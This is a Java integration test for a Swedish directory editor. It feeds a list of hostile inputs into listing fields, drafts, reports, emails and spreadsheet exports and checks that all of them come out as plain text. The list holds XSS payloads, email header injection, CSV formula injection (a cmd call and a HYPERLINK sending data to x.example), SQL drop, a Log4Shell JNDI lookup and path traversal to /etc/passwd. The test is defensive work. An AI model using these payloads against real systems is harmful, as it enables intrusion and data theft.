package se.forstasamtalet.editor;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import com.icegreen.greenmail.util.GreenMail;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import jakarta.mail.internet.MimeMessage;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.function.Predicate;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jsoup.nodes.Node;
import org.jsoup.nodes.TextNode;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import se.forstasamtalet.account.Grant;
import se.forstasamtalet.account.Role;
import se.forstasamtalet.content.ContentFolder;
import se.forstasamtalet.directory.Documents;
import se.forstasamtalet.directory.Listing;
import se.forstasamtalet.directory.PlainText;
import se.forstasamtalet.directory.Problem;
import se.forstasamtalet.directory.Wanted;
import se.forstasamtalet.editor.desk.Letter;
import se.forstasamtalet.editor.desk.Mailbox;
import se.forstasamtalet.editor.desk.Reason;
import se.forstasamtalet.editor.listing.DeskListing;
import se.forstasamtalet.editor.listing.Fields;
import se.forstasamtalet.editor.listing.Recipients.Recipient;
import se.forstasamtalet.editor.listing.WhatIsWrong;
import se.forstasamtalet.editor.reminder.OverdueListing;
import se.forstasamtalet.editor.reminder.ReminderLetter;
import se.forstasamtalet.editor.sheet.Sheet;
import se.forstasamtalet.editor.sheet.SheetFile;
import se.forstasamtalet.language.SiteLanguage;
import se.forstasamtalet.machine.SiteConfig;
import se.forstasamtalet.page.EveryPage;
import se.forstasamtalet.page.Page;
import se.forstasamtalet.publication.Preview;
import se.forstasamtalet.publication.Publisher;
import se.forstasamtalet.report.Outcome;
import se.forstasamtalet.report.Report;
import se.forstasamtalet.report.Reports;
import se.forstasamtalet.revision.Draft;
import se.forstasamtalet.revision.Revision;
import se.forstasamtalet.revision.Workflow;
import se.forstasamtalet.search.Search;
import se.forstasamtalet.visitor.Pages;

/**
 * Whatever somebody types, into whichever field, is text wherever it is shown, sent or taken out, and never anything
 * else. Each page is made twice, with a harmless word and with something hostile in its place: they may differ in
 * nothing else.
 */
@QuarkusTest
@TestProfile(WithNeighbours.class)
class HostileInputTest {

    private static final String HARMLESS = "Ofarlig";

    private static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>", "</title></textarea></style></option></script><script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "--><svg/onload=alert(1)>", "]]><!--",
            "\"><iframe src=javascript:alert(1)>", "\" autofocus onfocus=\"alert(1)", "' onmouseover='alert(1)",
            "`onclick=alert(1)", "javascript:alert(1)", "</form><form action=https://x.example>",
            "&lt;b&gt; &amp; &#60;script&#62; &quot;", "<b>fet</b><br>", "<base href=https://x.example>",
            "<meta http-equiv=refresh content=0>", "\\u003cscript\\u003e",
            "{site:leave} {report:report_send}", "{#if true}ja{/if}{#include page/layout}",
            "{inject:visit.token} {subject.address} {text.raw}", "{{7*7}} ${7*7} #{7*7} <%=7*7%>", "{! ingen !}{|rå|}",
            "{", "}\\{",
            "a\r\nBcc: ond@example.org", "a\nSet-Cookie: a=b", "a\r\n\r\n<html>", "%0d%0aSet-Cookie: a=b",
            "a\u2028Bcc: x", "a\u0085Bcc: x", "=?utf-8?q?=0d=0aBcc:_x?=",
            "=1+1", "+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://x.example/?\"&A1)", "\t=1",
            "＝1", "'=1", "|x", "%0A=1", "a;b\"c\n=1",
            "a\u202edcba\u202c", "\u2066\u2067a\u2069", "a\u0000b", "\u0007\u001b[31m\u009b", "\ufeffa\u200bb\u00ad",
            "\ufffea", "می‌خواهم \u200f", "a\u0301\u0301\u0301", "𝕏🇸🇪",
            "'; drop table revision; --", "*:* AND \"a~~ [x TO", "${jndi:ldap://x.example/a}",
            "- a: &x [*x]\n  b: !!js", "../../../../etc/passwd", "null", "ord ".repeat(60), "ochsenzoll".repeat(20));

    /**
     * Several at once, where it does not matter which comes first: as many as fit in the shortest field that takes
     * them.
     */
    private static final List<String> TOGETHER = Stream
            .of(together(hostile -> !hasBraces(hostile)), together(HostileInputTest::hasBraces)).flatMap(List::stream)
            .toList();

    /** In a text, though not in a name, braces are for numbers that it refers to. */
    private static boolean hasBraces(String text) {
        return text.contains("{") || text.contains("}");
    }

    private static List<String> together(Predicate<String> which) {
        List<String> together = new ArrayList<>(List.of(""));
        for (String hostile : HOSTILE.stream().filter(which).toList()) {
            String last = together.get(together.size() - 1);
            if (last.length() + hostile.length() > 450) {
                together.add(hostile);
            } else {
                together.set(together.size() - 1, (last + " " + hostile).strip());
            }
        }
        return together;
    }

    @Inject
    Publisher publisher;

    @Inject
    Preview proof;

    @Inject
    Workflow steps;

    @Inject
    Reports reports;

    @Inject
    SiteConfig config;

    @Inject
    ReminderLetter letters;

    @Inject
    Mailbox post;

    @AfterEach
    void nothingWaits() {
        QuarkusTransaction.requiringNew().run(() -> {
            Draft.deleteAll();
            Revision.waiting().forEach(sent -> steps.giveBack(sent.listing, sent.number,
                    SignedIn.asCoordinator().account().toString(), "the test is over"));
        });
    }

    // What somebody writes in a listing, on every public page

    @Test
    void inEveryFieldOfAListingOnEveryPublicPage() {
        List<Listing> chosen = Stream.of("services/rvc-innerstaden", "services/hjalplinjen", "areas/sodermalm",
                "organizations/stockholms-stad").map(this::listing).toList();
        Map<Listing, Set<String>> free = chosen.stream().collect(
                Collectors.toMap(listing -> listing, this::freeFields, (one, other) -> one, LinkedHashMap::new));
        assertTrue(free.values().stream().allMatch(fields -> fields.contains("name"))
                && free.values().stream().mapToInt(Set::size).sum() > 12, free.values().toString());
        Search search = Search.over(EveryPage.DIRECTORY);
        Map<String, Document> harmless = publicPages(free, HARMLESS, search);
        long shown = harmless.values().stream().filter(page -> page.text().contains(HARMLESS)).count();
        assertTrue(shown > 40, shown + " pages show it");
        TOGETHER.parallelStream()
                .forEach(hostile -> assertSame(harmless, publicPages(free, hostile, search), PlainText.of(hostile)));
        search.close();
    }

    private Listing listing(String name) {
        return EveryPage.DIRECTORY.listings()
                .filter(listing -> name.equals(listing.listingKind().folder() + "/" + listing.slug())).findFirst()
                .orElseThrow();
    }

    /** The fields in which anything at all may be written. */
    private Set<String> freeFields(Listing listing) {
        return Fields.of(document(listing)).keySet().stream()
                .filter(path -> wrong(with(listing, Set.of(path), "{<" + HARMLESS)).isEmpty())
                .collect(Collectors.toCollection(TreeSet::new));
    }

    private static ObjectNode document(Listing listing) {
        return DeskListing.document(Documents.write(listing));
    }

    /**
     * A document with something more in some of its fields; first what was there, so that everything stays in the same
     * order.
     */
    private static Map.Entry<Listing, String> with(Listing listing, Set<String> paths, String more) {
        Map<String, String> fields = new LinkedHashMap<>(Fields.of(document(listing)));
        paths.forEach(path -> fields.computeIfPresent(path, (same, value) -> PlainText.of(value + " " + more)));
        return Map.entry(listing, Fields.document(fields).toString());
    }

    private List<Problem> wrong(Map.Entry<Listing, String> written) {
        return proof.read(written.getValue(), written.getKey().listingKind()).problems();
    }

    private Map<String, Document> publicPages(Map<Listing, Set<String>> free, String text, Search search) {
        List<Listing> listings = new ArrayList<>(EveryPage.CONTENT.listings());
        free.forEach((listing, paths) -> {
            Map.Entry<Listing, String> written = with(listing, paths, text);
            assertEquals(List.of(), wrong(written), text);
            listings.replaceAll(one -> one.id().equals(listing.id())
                    ? proof.read(written.getValue(), listing.listingKind()).listing() : one);
        });
        Map<String, Document> pages = new TreeMap<>();
        for (SiteLanguage language : List.of(SiteLanguage.SWEDISH, SiteLanguage.ARABIC)) {
            Pages all = new Pages(EveryPage.CONTENT.directory(listings), EveryPage.CONTENT, config, language,
                    EveryPage.NIGHT);
            all.all().filter(page -> isAbout(page, free.keySet()))
                    .forEach(page -> pages.put(page.frame().address(), Jsoup.parse(page.html())));
            free.keySet().stream()
                    .flatMap(listing -> all.reports()
                            .listing((listing.listingKind() == Listing.Kind.SERVICES ? "/service/" : "/")
                                    + listing.slug())
                            .stream())
                    .map(all.reports()::form)
                    .forEach(page -> pages.put(page.frame().address(), Jsoup.parse(page.html())));
            for (String typed : List.of("hjälplinjen", "rvc", "Sodermalm Hjälplinjen", "vill dö",
                    "jag slår, Södermalm")) {
                pages.put(language + " " + typed, Jsoup.parse(all.found(typed, search.find(typed)).html()));
            }
        }
        return pages;
    }

    /** The others show nothing of these listings. */
    private static boolean isAbout(Page page, Set<Listing> listings) {
        String path = page.frame().path();
        return path.isEmpty() || !path.startsWith("/guide") && !path.startsWith("/service") && !path.equals("/about")
                || listings.stream().anyMatch(listing -> path.endsWith("/" + listing.slug()));
    }

    // What somebody writes at the desk, on every page there

    @Test
    void inADraftOnEveryPageOfTheDesk() {
        inADraft(List.of("name", "description.sv", "anonymity.decision_number"), hostile -> !hasBraces(hostile));
        inADraft(List.of("name", "anonymity.decision_number"), HostileInputTest::hasBraces);
    }

    private void inADraft(List<String> fields, Predicate<String> which) {
        Map<String, Document> harmless = pagesOfADraft(fields, HARMLESS);
        harmless.forEach((name, page) -> assertTrue(page.html().contains(HARMLESS), name));
        // What is said about hours that are not understood has a part of them in it: that page differs in more than one
        // word.
        Document form = harmless.remove("form");
        for (String hostile : TOGETHER.stream().filter(which).toList()) {
            Map<String, Document> pages = pagesOfADraft(fields, hostile);
            assertIsText("form", form, pages.remove("form"), PlainText.of(hostile));
            assertSame(harmless, pages, PlainText.of(hostile));
        }
    }

    private Map<String, Document> pagesOfADraft(List<String> fields, String text) {
        Listing listing = listing("services/valj-att-sluta");
        SignedIn editor = SignedIn.as("Anna", false, Set.of(new Grant(listing.id(), Role.EDITOR)));
        SignedIn colleague = SignedIn.as("Bo", false, Set.of(new Grant(listing.id(), Role.EDITOR)));
        String address = "/edit/listing/" + listing.id();
        Map<String, Document> pages = new TreeMap<>();
        Map<String, Object> form = form(editor, address);
        fields.forEach(field -> form.computeIfPresent(field, (same, value) -> value + " " + text));
        save(editor, address, form);
        pages.put("changes", page(editor.asks().get(address + "/changes")));
        pages.put("preview", page(editor.asks().get(address + "/preview/ar")));
        editor.sends().formParam("shown", true).post(address + "/show").then().statusCode(303);
        pages.put("beside", page(colleague.asks().get(address + "/beside/" + editor.account())));
        // What is wrong is shown again too, beside what is wrong with it. The page is the one that was saved last.
        form.put("drawn", form(editor, address).get("drawn"));
        List.of("phones[0].number", "typed_hours.phone", "url.url", "service_area.areas[0]")
                .forEach(field -> form.computeIfPresent(field, (same, value) -> "fel. " + text));
        save(editor, address, form);
        pages.put("form", page(editor.asks().get(address)));
        QuarkusTransaction.requiringNew().run(() -> Draft.deleteAll());
        return pages;
    }

    private static void save(SignedIn editor, String address, Map<String, Object> form) {
        editor.sends().contentType("application/x-www-form-urlencoded; charset=UTF-8").formParams(form)
                .formParam("do", "save").post(address).then().statusCode(303);
    }

    private static Map<String, Object> form(SignedIn who, String address) {
        Map<String, Object> fields = new HashMap<>();
        Element form = page(who.asks().get(address)).expectFirst("form:has(button[value=changes])");
        form.select("input:not([type=checkbox]), textarea").forEach(
                field -> fields.put(field.attr("name"), field.is("textarea") ? field.wholeText() : field.val()));
        form.select("select")
                .forEach(select -> fields.put(select.attr("name"), select.select("option[selected]").val()));
        form.select("input[type=checkbox][checked]").forEach(box -> fields.put(box.attr("name"),
                form.select("input[name='" + box.attr("name") + "'][checked]").eachAttr("value")));
        fields.remove("token");
        return fields;
    }

    @Test
    void inWhatWasSentReturnedPublishedAndSaidAboutItAndInPeoplesNames() {
        Map<String, Document> harmless = pagesOfSteps(HARMLESS);
        for (String hostile : TOGETHER) {
            pagesOfSteps(hostile).forEach((name, page) -> assertIsText(name, harmless.get(name), page,
                    name.startsWith("pe") ? named(hostile) : PlainText.of(hostile)));
        }
    }

    /** A person's name is one line, and shorter. */
    private static String named(String text) {
        return PlainText.beginning(PlainText.of(text).replaceAll("\\s", " "), 90);
    }

    private Map<String, Document> pagesOfSteps(String text) {
        Listing listing = listing("services/botkyrka");
        SignedIn anna = SignedIn.as("Anna " + named(text), false, Set.of(new Grant(listing.id(), Role.EDITOR)));
        SignedIn bo = SignedIn.as("Bo", false,
                Set.of(new Grant(listing.id(), Role.EDITOR), new Grant(listing.id(), Role.REVIEWER)));
        String address = "/edit/listing/" + listing.id();
        Map<String, Document> pages = new LinkedHashMap<>();
        Map.Entry<Listing, String> written = with(listing, freeFields(listing), text);
        Listing changed = proof.read(written.getValue(), Listing.Kind.SERVICES).listing();
        int base = QuarkusTransaction.requiringNew().call(() -> Revision.standing(listing.id()).orElseThrow().number);
        int sent = steps.send(changed, base, anna.account().toString(), Reason.of(text));
        pages.put("sent", page(bo.asks().get(address + "/sent/" + sent)));
        pages.put("sent, as it will be", page(bo.asks().get(address + "/sent/" + sent + "/preview/sv")));
        bo.sends().contentType("application/x-www-form-urlencoded; charset=UTF-8").formParam("verdict", "return")
                .formParam("why", "x " + text).post(address + "/sent/" + sent).then().statusCode(303);
        pages.put("desk of the writer", page(anna.asks().get("/edit")));
        steps.publish(changed, base, anna.account().toString(), Reason.of(text));
        pages.put("history", page(bo.asks().get(address + "/history")));
        pages.put("listing", page(bo.asks().get(address)));
        pages.put("people", page(SignedIn.asCoordinator().asks().get("/edit/people")));
        pages.put("person", page(SignedIn.asCoordinator().asks().get("/edit/people/" + anna.account())));
        bo.sends().formParam("base", base + 3).formParam("why", text).post(address + "/withdraw");
        pages.put("desk", page(bo.asks().get("/edit")));
        int standing = QuarkusTransaction.requiringNew()
                .call(() -> Revision.standing(listing.id()).orElseThrow().number);
        steps.publish(listing, standing, bo.account().toString(), "as it was");
        return pages;
    }

    // What somebody reports, and what is said about that

    @Test
    void inAReportAndInTheAnswerToIt() {
        Map<String, Document> harmless = pagesOfAReport(HARMLESS);
        for (String hostile : TOGETHER) {
            String scrubbed = PlainText.of(hostile).strip().replace("ond@example.org", "[…]")
                    .replaceAll("[\u200e\u200f]", "");
            pagesOfAReport(hostile).forEach((name, page) -> assertIsText(name, harmless.get(name), page,
                    name.equals("told") ? PlainText.of(hostile).strip() : scrubbed));
        }
    }

    private Map<String, Document> pagesOfAReport(String text) {
        Listing listing = listing("areas/nacka");
        SignedIn editor = SignedIn.as(Role.EDITOR, listing.id());
        Map<String, Document> pages = new LinkedHashMap<>();
        Response received = given().contentType("application/x-www-form-urlencoded; charset=UTF-8")
                .formParam("q", "Fel: " + text).post("/ar/report/nacka");
        assertEquals(null, received.header("Set-Cookie"));
        pages.put("received", page(received));
        reports.look();
        Report report = QuarkusTransaction.requiringNew().call(() -> Report.about(listing.id()).get(0));
        String address = "/edit/listing/" + listing.id() + "/report/" + report.number;
        pages.put("at the desk", page(editor.asks().get(address)));
        editor.sends().contentType("application/x-www-form-urlencoded; charset=UTF-8")
                .formParam("outcome", Outcome.NO_ERROR.name()).formParam("why", "x " + text).post(address).then()
                .statusCode(303);
        reports.look();
        pages.put("settled", page(editor.asks().get(address)));
        pages.put("told", page(given().contentType("application/x-www-form-urlencoded; charset=UTF-8")
                .formParam("q", page(received).select(".code").text()).post("/ar/report")));
        return pages;
    }

    // Mail, spreadsheets, files

    @Test
    void inTheMailThatAsksWhetherAListingIsStillRight() throws Exception {
        GreenMail server = WithNeighbours.mailServer();
        Map<String, Integer> shapes = new TreeMap<>();
        for (String text : Stream.concat(Stream.of(HARMLESS), HOSTILE.stream()).toList()) {
            server.purgeEmailFromAllMailboxes();
            Listing listing = listing("services/ekero");
            Listing named = proof.read(with(listing, Set.of("name"), text).getValue(), Listing.Kind.SERVICES).listing();
            SignedIn editor = SignedIn.as("Anna", false, Set.of(new Grant(listing.id(), Role.EDITOR)));
            int number = QuarkusTransaction.requiringNew()
                    .call(() -> Revision.standing(listing.id()).orElseThrow().number);
            post.send(letters.write(new Recipient(editor.account(), "Anna " + text, "anna@example.org"),
                    List.of(new OverdueListing(named, number, LocalDate.EPOCH, null))));
            MimeMessage[] all = server.getReceivedMessages();
            assertEquals(1, all.length, text);
            MimeMessage letter = all[0];
            assertEquals("anna@example.org",
                    Arrays.stream(letter.getAllRecipients()).map(Object::toString).collect(Collectors.joining()));
            String headers = Collections.list(letter.getAllHeaders()).stream().map(header -> header.getName()).sorted()
                    .collect(Collectors.joining(" "));
            String body = letter.getContent().toString().replace("\r\n", "\n");
            shapes.merge(headers + " " + letter.getContentType() + " " + body.lines().count(), 1, Integer::sum);
            assertTrue(letter.getSubject().startsWith("Stämmer det fortfarande? Ekerö"), letter.getSubject());
            assertTrue(body.startsWith("Hej " + Letter.inLine("Anna " + text) + "!"), body);
            assertTrue(body.lines().anyMatch(line -> line.equals(Letter.inLine(named.name()))), body);
        }
        assertEquals(1, shapes.size(), shapes.toString());
    }

    @Test
    void inASpreadsheetThatIsTakenOutAndComesBackAsItWas() {
        for (String hostile : HOSTILE) {
            List<Listing> written = Stream.of("services/rvc-innerstaden", "areas/sodermalm").map(this::listing)
                    .map(listing -> {
                        Map<String, String> fields = new LinkedHashMap<>(Fields.of(document(listing)));
                        fields.put("name", PlainText.of(hostile).isBlank() ? HARMLESS : PlainText.of(hostile));
                        fields.put("observations[0].text", PlainText.of(hostile + hostile));
                        return proof.read(Fields.document(fields).toString(), listing.listingKind()).listing();
                    }).toList();
            Sheet sheet = Sheet.of(written, written.stream().collect(Collectors.toMap(Listing::id, listing -> 1)),
                    member -> true);
            byte[] csv = SheetFile.csv(sheet);
            for (CsvRecord row : CsvReader.builder().fieldSeparator(';')
                    .ofCsvRecord(new String(csv, StandardCharsets.UTF_8).substring(1))) {
                assertTrue(row.getFields().stream().noneMatch(cell -> cell.matches("(?s)[=+@\\-＝＋－＠\\t\\r\\n|%].*")),
                        row.toString());
            }
            for (byte[] file : List.of(csv, SheetFile.xlsx(sheet))) {
                for (int row = 0; row < written.size(); row++) {
                    Map<String, String> cells = new LinkedHashMap<>(SheetFile.read(file).rows().get(row).cells());
                    cells.keySet().removeAll(Set.of(Sheet.FOLDER, Sheet.REVISION));
                    assertEquals(written.get(row),
                            proof.read(Fields.document(cells).toString(), written.get(row).listingKind()).listing(),
                            hostile);
                }
            }
        }
    }

    @Test
    void inASheetThatSomebodySends() {
        Document harmless = review(HARMLESS);
        for (String hostile : TOGETHER) {
            assertIsText("sheet", harmless, review(hostile), PlainText.of("Sigtuna " + hostile).strip());
        }
    }

    private Document review(String text) {
        Listing listing = listing("services/sigtuna");
        SignedIn editor = SignedIn.as(Role.EDITOR, listing.id());
        int number = QuarkusTransaction.requiringNew().call(() -> Revision.standing(listing.id()).orElseThrow().number);
        String cell = "\"Sigtuna " + text.replace("\"", "\"\"") + "\"";
        String csv = "id;revision;name;alternate_name\r\n%s;%d;%s;%s\r\n".formatted(listing.id(), number, cell, cell);
        return page(editor.asks().header("Sec-Fetch-Site", "same-origin").multiPart("token", editor.token())
                .multiPart("sheet", "sheet.csv", csv.getBytes(StandardCharsets.UTF_8), "text/csv").post("/edit/sheet"));
    }

    @Test
    void inAFileThatIsWrittenOutAndReadIn() {
        Listing listing = listing("services/rvc-innerstaden");
        for (String hostile : TOGETHER) {
            Listing written = proof.read(with(listing, freeFields(listing), hostile).getValue(), Listing.Kind.SERVICES)
                    .listing();
            List<Problem> problems = new ArrayList<>();
            assertEquals(written, ContentFolder.read(Documents.write(written), Listing.Kind.SERVICES, problems),
                    hostile);
            assertEquals(List.of(), problems, hostile);
        }
    }

    /** What nobody sees is cleaned away where it is typed; what comes in another way is refused. */
    @Test
    void whatIsNotSeenIsRefusedInADocument() {
        Listing listing = listing("services/ekero");
        for (String unseen : List.of("\u0000", "\u202e", "\u2066", "\ufeff", "\u200b", "\u001b", "\u0085", "\u2028")) {
            ObjectNode document = document(listing).put("name", "Eke" + unseen + "rö");
            document.putObject("description").put("sv", "Hjälp" + unseen);
            Preview.Reading reading = proof.read(document.toString(), Listing.Kind.SERVICES);
            Set<String> refused = reading.problems().stream()
                    .filter(problem -> problem.expected().wanted() == Wanted.VISIBLE_TEXT).map(Problem::field)
                    .collect(Collectors.toSet());
            // What YAML takes for the end of a line, or skips, is gone by then.
            assertTrue(refused.equals(Set.of("name", "description.sv")) || PlainText.is(reading.listing().name()),
                    () -> (int) unseen.charAt(0) + ": " + reading);
            assertTrue(unseen.equals("\u2028") || unseen.equals("\u0085") || unseen.equals("\ufeff")
                    || refused.size() == 2, () -> (int) unseen.charAt(0) + ": " + reading);
            reading.problems()
                    .forEach(problem -> assertEquals("En text utan tecken som inte syns. Skriv den på nytt för hand.",
                            WhatIsWrong.of(problem)));
        }
    }

    /** A text that fits on its own page and not on another one would keep everybody from publishing anything. */
    @Test
    void whatIsTooLongIsToldToWhoWroteItBeforeItIsPublished() {
        Listing listing = listing("services/hjalplinjen");
        SignedIn editor = SignedIn.as(Role.EDITOR, listing.id());
        String address = "/edit/listing/" + listing.id();
        Map<Integer, String> told = new TreeMap<>();
        for (int length : new int[]{3_000, 5_000, 20_000}) {
            Map<String, Object> form = form(editor, address);
            form.put("description.sv", new Random(length).ints(length, 0x4e00, 0x9fff)
                    .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString());
            Response saved = editor.sends().contentType("application/x-www-form-urlencoded; charset=UTF-8")
                    .formParams(form).formParam("do", "save").post(address);
            Response sent = saved.statusCode() == 303 ? editor.sends().post(address + "/send") : saved;
            told.put(length,
                    sent.statusCode() + " " + Jsoup.parse(sent.asString()).select("[role=alert], h1").last().text());
        }
        assertEquals(Map.of(3_000,
                "409 En annan sida där det här också står får inte plats. Korta texterna och försök igen.",
                5_000, "409 Sidan får inte plats. Korta texterna och försök igen.", 20_000, "413 Något blev fel"),
                told);
    }

    // How it is looked for

    private static Document page(Response response) {
        assertTrue(response.statusCode() == 200 || response.statusCode() == 409,
                () -> response.statusCode() + ": " + response.asString());
        // A public page is padded to the one size.
        return Jsoup.parse(response.asString().stripTrailing());
    }

    /** The same elements with the same attributes and texts, but for the one word. */
    private static void assertSame(Map<String, Document> harmless, Map<String, Document> hostile, String text) {
        assertEquals(harmless.keySet(), hostile.keySet());
        harmless.forEach((name, page) -> {
            List<String> expected = said(page).stream().map(line -> line.replace(HARMLESS, text)).toList();
            List<String> found = said(hostile.get(name));
            int place = 0;
            while (place < expected.size() && place < found.size() && expected.get(place).equals(found.get(place))) {
                place++;
            }
            assertEquals(expected.subList(place, Math.min(expected.size(), place + 2)),
                    found.subList(place, Math.min(found.size(), place + 2)), name);
        });
    }

    private static List<String> said(Document page) {
        List<String> said = new ArrayList<>();
        // A picture cuts and shrinks long names, and what a text claims is told in words of our own; all else says them
        // as they are.
        Document shown = page.clone();
        shown.select("svg, dd.soft").remove();
        shown.traverse((node, depth) -> said.add(depth + " " + said(node)));
        return said;
    }

    /** What stands in a node, but for what is another each time. */
    private static String said(Node node) {
        String own = node instanceof Element element ? said(element) : node.nodeName();
        return (node instanceof TextNode text ? text.getWholeText() : own).replaceAll("[0-9a-f]{8}-[0-9a-f-]{27}", "ID")
                .replaceAll("(name=token type=hidden value=)\\S+", "$1TOKEN").replaceAll("kl\\. \\d\\d\\.\\d\\d", "KL");
    }

    private static String said(Element element) {
        return element.tagName() + element.attributes().asList().stream()
                .sorted((one, other) -> one.getKey().compareTo(other.getKey()))
                .map(attribute -> " " + attribute.getKey() + "=" + attribute.getValue()).collect(Collectors.joining());
    }

    /**
     * No element and no attribute that a harmless word does not bring, no address of somebody else's, and the text as
     * it was typed.
     */
    private static void assertIsText(String name, Document harmless, Document hostile, String text) {
        assertNotNull(harmless, name);
        Set<String> known = kinds(harmless);
        assertEquals(Set.of(),
                kinds(hostile).stream().filter(kind -> !known.contains(kind)).collect(Collectors.toSet()),
                name + " with " + text);
        for (Attribute attribute : hostile.getAllElements().stream()
                .flatMap(element -> element.attributes().asList().stream()).toList()) {
            assertFalse(
                    Set.of("href", "action", "src").contains(attribute.getKey())
                            && attribute.getValue().matches("(?i)(javascript|https?://x\\.).*"),
                    name + ": " + attribute);
        }
        String all = said(hostile).stream().collect(Collectors.joining("\n"));
        assertTrue(all.contains(text) || all.contains(text.replaceAll("\\s", " ")) || text.isBlank(),
                () -> name + " does not show " + text + ": " + hostile.body().wholeText());
    }

    private static Set<String> kinds(Document page) {
        return page.getAllElements().stream()
                .flatMap(element -> Stream.concat(Stream.of(element.tagName()),
                        element.attributes().asList().stream().map(Attribute::getKey)))
                .collect(Collectors.toSet());
    }
}
